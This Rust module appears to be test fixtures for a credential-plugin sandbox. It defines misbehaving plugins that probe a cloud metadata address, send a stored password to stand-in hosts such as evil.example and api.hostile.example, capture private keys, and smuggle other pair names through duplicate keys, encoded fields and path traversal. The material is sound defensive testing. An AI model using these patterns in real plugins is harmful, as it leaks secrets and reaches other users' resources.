//! Bodies, paths and captures beyond those of the first request: binding a pair, logging in, and replies in XML.
//!
//! The imaginary provider binds with `POST /`, action `AttachPair`, and `{"pair": {"name": .., "id": ..}, "instances":
//! [..]}`, releases with action `DetachPair` and a form, and answers both with 200. `GET /pairs/NAME/instances/all` answers
//! `{"instances": [..]}`. With the header `x-format: xml` it answers in XML, with `x-format: header` it gives a new private
//! key in the header `x-private-key`. `POST /form-login` takes `user` and `password` and answers `<Login><Token>..`.

use keyferry_plugin::contract::{
    Attachment, ErrorKind, HttpStep, InstanceResult, Operation, Outcome, Pair, ProviderError, Reply, Step,
};
use keyferry_plugin::recipe::{Expr, HttpRequest, Place};
use keyferry_plugin::{Answer, Turn};
use serde_json::Value;

use crate::Behaviour;
use crate::provider::{done, request};

/// The honest request that binds or releases a pair.
pub(crate) fn attachment(mut request: HttpRequest, attachment: &Attachment, detach: bool) -> HttpRequest {
    let pair = &attachment.pair;
    let body = match detach {
        true => {
            let instances = attachment.instances.iter().enumerate();
            let fields = instances.map(|(index, instance)| format!("&instance.{}={instance}", index + 1));
            format!("name={}{}", pair.name, fields.collect::<String>())
        }
        false => {
            let mut pair_of = serde_json::json!({ "name": pair.name });
            if let Some(id) = &pair.id {
                pair_of["id"] = id.clone().into();
            }
            serde_json::json!({ "pair": pair_of, "instances": attachment.instances }).to_string()
        }
    };
    request.body = body.into();
    request
}

/// The next step of behaviours that are about these; none: of others.
pub(crate) fn answer(behaviour: Behaviour, operation: &Operation, turn: &Turn<'_>) -> Option<Answer> {
    use Behaviour as B;
    let Operation::Credentials(_) = operation else {
        return bound(behaviour, operation, turn);
    };
    let step = match behaviour {
        B::MetadataOverTls => send(HttpRequest::new("GET", "https://169.254.169.254", "/metadata/x")),
        B::MetadataOtherPort => send(HttpRequest::new(
            "GET",
            "http://169.254.169.254:8080",
            "/metadata/x",
        )),
        B::CatalogueOfNobody => login(HttpRequest::new("POST", "https://evil.example", "/v3/login"), "$"),
        B::CaptureKeyInLogin => capturing(turn, "private_key"),
        B::CapturePublicField => capturing(turn, "access_key_id"),
        B::CaptureUnknownField => capturing(turn, "anything"),
        B::EchoCapturedXml => match turn.reply {
            Some(Reply::Response(response)) => {
                let error = ProviderError::new(ErrorKind::Internal, response.body.clone());
                return Some(Err(error));
            }
            _ => {
                let request = HttpRequest::new("POST", turn.origin("api.hostile.example"), "/form-login");
                HttpStep::new(request.with_body("user=li"))
                    .capturing_at("security_token", Place::XmlPath("Login/Token".to_owned()))
                    .into()
            }
        },
        B::EchoUncaptured | B::EchoUncapturedXml => match turn.reply {
            Some(Reply::Response(response)) => {
                let message = format!("{}{:?}", response.body, response.headers);
                return Some(Err(ProviderError::new(ErrorKind::Internal, message)));
            }
            _ => {
                let (path, body) = match behaviour {
                    B::EchoUncaptured => ("/login", r#"{"auth":{"user":"li"}}"#),
                    _ => ("/form-login", "user=li"),
                };
                let request = HttpRequest::new("POST", turn.origin("api.hostile.example"), path);
                HttpStep::new(request.with_body(body)).into()
            }
        },
        _ => return with_password(behaviour, turn),
    };
    Some(Ok(step))
}

/// Sends the password where it may not be.
fn with_password(behaviour: Behaviour, turn: &Turn<'_>) -> Option<Answer> {
    use Behaviour as B;
    let secret = || match turn.reply {
        Some(Reply::Document(document)) => {
            let handle = document.content["HOSTILE_PASSWORD"]["handle"].as_str();
            Expr::secret(handle.unwrap_or_default())
        }
        _ => Expr::text(""),
    };
    let json = |text: &str, parts: &[Expr]| {
        let origin = turn.origin("api.hostile.example");
        send(HttpRequest::new("POST", origin, "/login").with_body(filled(text, parts)))
    };
    let step = match behaviour {
        B::BodyPasswordAsKey => json(
            r#"{"auth":{"user":"li","password":$,$:"x"}}"#,
            &[secret().json_string(), secret().json_string()],
        ),
        B::BodyPasswordWithText => json(
            r#"{"auth":{"user":"li","password":$}}"#,
            &[Expr::concat([Expr::text("x"), secret()]).json_string()],
        ),
        B::BodyPasswordBare => json(r#"{"auth":{"user":"li","password":"$"}}"#, &[secret()]),
        B::BodyPasswordPercent => json(r#"{"auth":{"user":"li","password":"$"}}"#, &[secret().percent()]),
        B::BodyPasswordHashed => json(
            r#"{"auth":{"user":"li","password":$,"scopes":["$"]}}"#,
            &[secret().json_string(), secret().sha256().hex()],
        ),
        B::BodyPasswordInOther => json(
            r#"{"auth":{"user":"li","password":$,"scopes":[$]}}"#,
            &[secret().json_string(), secret().json_string()],
        ),
        B::BodyPasswordInForm => {
            let request = HttpRequest::new("POST", turn.origin("api.hostile.example"), "/form-login");
            send(request.with_body(filled(
                "user=$&password=$",
                &[secret().percent(), secret().percent()],
            )))
        }
        B::BodyPasswordInHeader => {
            let request = HttpRequest::new("GET", turn.origin("api.hostile.example"), "/metadata/x");
            send(request.with_header("x-note", secret()))
        }
        _ => return None,
    };
    Some(Ok(match turn.reply {
        None => Step::read("environment", Value::Null),
        Some(_) => step,
    }))
}

/// Binds, releases and asks in ways that the manifest does not have.
fn bound(behaviour: Behaviour, operation: &Operation, turn: &Turn<'_>) -> Option<Answer> {
    use Behaviour as B;
    if let (B::AttachedOther, Some(Reply::Response(_))) = (behaviour, turn.reply) {
        return Some(Ok(done(Outcome::Attached(vec![InstanceResult {
            instance: "somebody-elses".to_owned(),
            error: None,
        }]))));
    }
    if let (B::PrivateKeyFromXml, Some(Reply::Response(response))) = (behaviour, turn.reply) {
        return Some(match response.has_captured("private_key") {
            true => Ok(done(Outcome::Pair(Pair {
                // What is left of the reply must hold no key.
                name: response.body.clone(),
                ..Pair::default()
            }))),
            false => Err(ProviderError::new(ErrorKind::Internal, "no key")),
        });
    }
    if turn.reply.is_some() {
        return None;
    }
    let mut request = request(operation, turn);
    let capture = |request: HttpRequest, name: &str, place| {
        Some(Ok(HttpStep::new(request).capturing_at(name, place).into()))
    };
    let json = |text: &str| text.to_owned();
    let body = match behaviour {
        B::JsonExtraField => json(r#"{"pair":{"name":"web-1"},"instances":["i-1"],"all":true}"#),
        B::JsonEmptyObject => json(r#"{"pair":{"name":"web-1"},"instances":["i-1"],"all":{}}"#),
        B::JsonDuplicateKey => {
            json(r#"{"pair":{"name":"web-1","name":"somebody-elses"},"instances":["i-1"]}"#)
        }
        B::JsonOtherPair => json(r#"{"pair":{"name":"somebody-elses"},"instances":["i-1"]}"#),
        B::JsonOtherInstance => json(r#"{"pair":{"name":"web-1"},"instances":["i-1","somebody-elses"]}"#),
        B::JsonUnnamed => json(r#"{"pair":{},"instances":["i-1"]}"#),
        B::JsonOtherValue => json(r#"{"pair":{"name":"web-1"},"instances":["i-1"],"force":true}"#),
        B::JsonAsForm => json("name=web-1&instance.1=i-1"),
        B::FormOtherPair => json("name=somebody-elses&instance.1=i-1"),
        B::FormOtherInstance => json("name=web-1&instance.1=i-1&instance.2=somebody-elses"),
        B::FormDuplicate => json("name=web-1&instance.1=i-1&%6eame=somebody-elses"),
        B::FormSemicolon => json("name=web-1;name=somebody-elses"),
        B::FormAndQuery => {
            request.query = vec![("name".to_owned(), Expr::text("somebody-elses"))];
            json("name=web-1&instance.1=i-1")
        }
        B::BodyUnlisted => json("{}"),
        B::PathTwoSegments => {
            request.path = "/pairs/web-1/instances/a%2F..%2Fsomebody-elses".to_owned();
            String::new()
        }
        B::PathOtherBase => {
            request.path = "/v9/pairs/web-1/instances/all".to_owned();
            String::new()
        }
        B::CaptureTokenInList => return capture(request, "security_token", json_at("/token")),
        B::CaptureTokenInAttach => return capture(request, "security_token", json_at("/token")),
        B::PrivateKeyFromXml => {
            let place = Place::XmlPath("CreatePair/PrivateKey".to_owned());
            return capture(formatted(request, "xml"), "private_key", place);
        }
        B::PrivateKeyFromHeader => {
            let place = Place::Header("x-private-key".to_owned());
            return capture(formatted(request, "header"), "private_key", place);
        }
        B::PrivateKeyElsewhereInXml => {
            let place = Place::XmlPath("CreatePair/Pair".to_owned());
            return capture(formatted(request, "xml"), "private_key", place);
        }
        B::PrivateKeyLeftInHeader => {
            let place = Place::JsonPointer("/pair/name".to_owned());
            return capture(formatted(request, "header"), "private_key", place);
        }
        _ => return None,
    };
    request.body = body.into();
    Some(Ok(send(request)))
}

fn json_at(pointer: &str) -> Place {
    Place::JsonPointer(pointer.to_owned())
}

fn formatted(request: HttpRequest, format: &str) -> HttpRequest {
    request.with_header("x-format", format)
}

fn capturing(turn: &Turn<'_>, name: &str) -> Step {
    let request = HttpRequest::new("GET", turn.origin("api.hostile.example"), "/metadata/x");
    HttpStep::new(request).capturing(name, "/token").into()
}

fn login(request: HttpRequest, password: &str) -> Step {
    let text = r#"{"auth":{"user":"li","password":"$"}}"#;
    send(request.with_body(filled(text, &[Expr::text(password)])))
}

fn send(request: HttpRequest) -> Step {
    HttpStep::new(request).into()
}

/// The text with a recipe in place of each `$`.
fn filled(text: &str, parts: &[Expr]) -> Expr {
    let mut parts = parts.iter().cloned();
    let mut pieces = Vec::new();
    for (index, piece) in text.split('$').enumerate() {
        if index > 0 {
            pieces.extend(parts.next());
        }
        pieces.push(Expr::text(piece));
    }
    Expr::concat(pieces)
}
